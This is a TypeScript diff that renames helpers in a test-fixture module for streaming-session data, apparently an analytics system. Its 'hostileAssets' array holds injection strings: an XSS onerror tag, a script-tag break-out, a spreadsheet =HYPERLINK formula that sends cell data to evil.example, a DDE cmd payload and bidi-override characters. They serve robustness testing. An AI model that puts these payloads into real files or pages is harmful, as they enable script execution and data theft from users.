@@ -3,11 +3,11 @@ import type { Title } from "../catalogue/titles.ts";
 import type { StoredSession } from "../sessions/session-spec.ts";
 import { stories } from "../stories.ts";
 import type { WireSession } from "../wire.ts";
-import { presentedAs } from "./awkward-shapes.ts";
-import { createCast, type StoryContext } from "./cast.ts";
-import { line } from "./homes.ts";
+import { serializedAs } from "./awkward-shapes.ts";
+import { connection } from "./connections.ts";
+import { createStoryViewer, type StoryContext } from "./story-viewer.ts";
 
-const nastyAssets = [
+const hostileAssets = [
   "<img src=x onerror=alert(1)>",
   '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
   "\u202eevil\u202c مسلسل الشتاء \u2067الحلقة 3\u2069",
@@ -16,21 +16,21 @@ const nastyAssets = [
   "+1+cmd|' /C calc'!A0 \u0000\u0007</script><script>alert(2)</script>",
 ];
 
-/** Hostile and invisible text wherever text can stand. */
+/** Every text field contains hostile or invisible characters. */
 export function awkwardText(context: StoryContext): StoredSession[] {
-  const cast = createCast(stories.awkwardText.viewerId, context, line("comcast", "192.0.2.203"));
-  return nastyAssets.flatMap((asset, index) =>
-    cast
-      .tell({ hoursAgo: 2 + index * 3, device: "chromeWindows", title: nastyTitle(asset) })
-      .map((stored) => ({ ...stored, present: (session: WireSession) => withNastyText(session, asset) })),
+  const viewer = createStoryViewer(stories.awkwardText.viewerId, context, connection("comcast", "192.0.2.203"));
+  return hostileAssets.flatMap((asset, index) =>
+    viewer
+      .sessions({ hoursAgo: 2 + index * 3, device: "chromeWindows", title: hostileTitle(asset) })
+      .map((stored) => ({ ...stored, serialize: (session: WireSession) => withHostileText(session, asset) })),
   );
 }
 
-function nastyTitle(asset: string): Title {
+function hostileTitle(asset: string): Title {
   return { asset, category: "VoD", channel: asset.slice(0, 40), lengthMs: 3_000_000, weight: 0 };
 }
 
-function withNastyText(session: WireSession, asset: string): unknown {
+function withHostileText(session: WireSession, asset: string): unknown {
   return {
     ...session,
     content_info: {
@@ -51,17 +51,17 @@ function withNastyText(session: WireSession, asset: string): unknown {
   };
 }
 
-/** Addresses, places and CDNs that are not what their names promise. */
+/** IP addresses, places and CDNs are hashed, empty or missing. */
 export function awkwardNetwork(context: StoryContext): StoredSession[] {
-  const cast = createCast(stories.awkwardNetwork.viewerId, context, line("comcast", "192.0.2.204"));
+  const viewer = createStoryViewer(stories.awkwardNetwork.viewerId, context, connection("comcast", "192.0.2.204"));
   const hashed = createHash("md5").update("salt 192.0.2.204").digest("hex");
-  const [twoCdns] = cast.tell({ hoursAgo: 18, cdn: ["akamai", "fastly"] });
-  const [onlyIpv6] = cast.tell({
+  const [twoCdns] = viewer.sessions({ hoursAgo: 18, cdn: ["akamai", "fastly"] });
+  const [onlyIpv6] = viewer.sessions({
     hoursAgo: 20,
-    on: line("tmobile", null, "2001:DB8:0:0:8:800:200C:417A"),
+    on: connection("tmobile", null, "2001:DB8:0:0:8:800:200C:417A"),
   });
   return [
-    ...presentedAs(cast, [
+    ...serializedAs(viewer, [
       (session) => ({ ...session, network_info: { ...session.network_info, ip: hashed } }),
       (session) => ({ ...session, network_info: { ...session.network_info, ip: null, isp: "" } }),
       (session) => ({ ...session, geo_info: {} }),
